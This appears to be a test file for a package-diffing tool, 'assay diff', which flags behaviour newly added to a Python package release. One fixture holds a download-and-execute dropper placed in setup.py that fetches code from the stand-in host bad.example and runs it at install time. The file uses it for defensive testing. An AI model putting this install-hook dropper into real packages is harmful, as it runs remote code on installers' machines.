/** `assay diff` as a user runs it, on directories and against a registry on loopback. */
import assert from 'node:assert/strict';
import { execFile } from 'node:child_process';
import { mkdirSync, mkdtempSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { dirname, join } from 'node:path';
import { after, test } from 'node:test';
import { fileURLToPath } from 'node:url';
import type { DiffReport } from '../../src/model/diff.ts';

const BIN = fileURLToPath(new URL('../../../bin/assay', import.meta.url));
const root = mkdtempSync(join(tmpdir(), 'assay-diff-'));
after(() => rmSync(root, { recursive: true }));

function folder(name: string, files: Readonly<Record<string, string>>): string {
  for (const [path, text] of Object.entries(files)) {
    mkdirSync(dirname(join(root, name, path)), { recursive: true });
    writeFileSync(join(root, name, path), text);
  }
  return join(root, name);
}

function diff(...args: string[]): Promise<{ code: number; out: string; told: string }> {
  const env = { PATH: process.env['PATH'], HOME: root, ASSAY_CACHE_DIR: join(root, 'cache'), XDG_CONFIG_HOME: root };
  return new Promise((resolve) => {
    execFile(process.execPath, [BIN, 'diff', ...args], { env, cwd: root }, (error, out, told) => resolve({ code: typeof error?.code === 'number' ? error.code : 0, out, told }));
  });
}

const INFO = 'Metadata-Version: 2.1\nName: x\nVersion: 1.0\n';
const SETUP = 'from setuptools import setup\nsetup(name="x", py_modules=["x"])\n';
const DROPPER = 'import os, urllib.request\nopen("p.py", "wb").write(urllib.request.urlopen("https://bad.example/p").read())\nos.system("python p.py")\n';

test('two folders: text and JSON, the new behaviour and its stage', async () => {
  const before = folder('before', { 'PKG-INFO': INFO, 'setup.py': SETUP, 'x.py': 'a = 1\n' });
  const bad = folder('after', { 'PKG-INFO': INFO.replace('1.0', '1.1'), 'setup.py': DROPPER + SETUP, 'x.py': 'a = 1\n' });
  const text = await diff(before, bad);
  assert.equal(text.code, 1, text.told);
  assert.match(text.out, /What it newly does/);
  assert.match(text.out, /Version: 1\.0 -> 1\.1/i);
  assert.doesNotMatch(text.out, /https:\/\/bad\.example/);
  const json = JSON.parse((await diff(before, bad, '-f', 'json')).out) as DiffReport;
  assert.ok(json.behaviours.some((each) => each.effect === 'net.fetch' && each.stage === 'install'));
  assert.equal((await diff(before, before)).code, 0);
});

test('a taken-over release: every format tells what it newly does, first, and the added lines', async () => {
  const before = folder('kept', { 'PKG-INFO': INFO, 'setup.py': SETUP, 'x.py': 'a = 1\n' });
  const taken = folder('taken', { 'PKG-INFO': INFO.replace('1.0', '1.1'), 'setup.py': DROPPER + SETUP, 'x.py': 'a = 2\n' });
  const orders: readonly (readonly [format: string, before: RegExp, after: RegExp])[] = [
    ['text', /What it newly does/, /x\.py/], ['html', /It newly does net\.fetch/, /setup\.py:1 \(runs when the package is installed\)[\s\S]*\+2<\/span>open\(/], ['markdown', /It newly does net\\\.fetch/, /\+2 open\(/],
  ];
  for (const [format, first, later] of orders) {
    const { out, code, told } = await diff(before, taken, '-f', format);
    assert.equal(code, 1, told);
    const [a, b] = [first.exec(out)?.index ?? -1, later.exec(out)?.index ?? -1];
    assert.ok(a >= 0 && b >= 0 && a <= b, `${format}: ${a} ${b}\n${out}`);
    assert.doesNotMatch(out, /https:\/\/bad\.example/, format);
  }
  const sarif = JSON.parse((await diff(before, taken, '-f', 'sarif')).out) as { runs: { results: { ruleId: string; level: string; locations: { physicalLocation: { region: { startLine: number; endLine: number; snippet: { text: string } } } }[] }[] }[] };
  const added = sarif.runs[0]?.results.find((each) => each.ruleId === 'added-to-original');
  assert.deepEqual([added?.level, added?.locations[0]?.physicalLocation.region.startLine, added?.locations[0]?.physicalLocation.region.endLine], ['none', 1, 3]);
  assert.match(added?.locations[0]?.physicalLocation.region.snippet.text ?? '', /os\.system/);
});

test('a missing side, one side only and an unknown original are mistakes', async () => {
  const only = folder('only', { 'PKG-INFO': INFO });
  for (const args of [[only], [only, 'nowhere'], ['--latest', only], ['--latest']]) assert.equal((await diff(...args)).code, 2, args.join(' '));
});
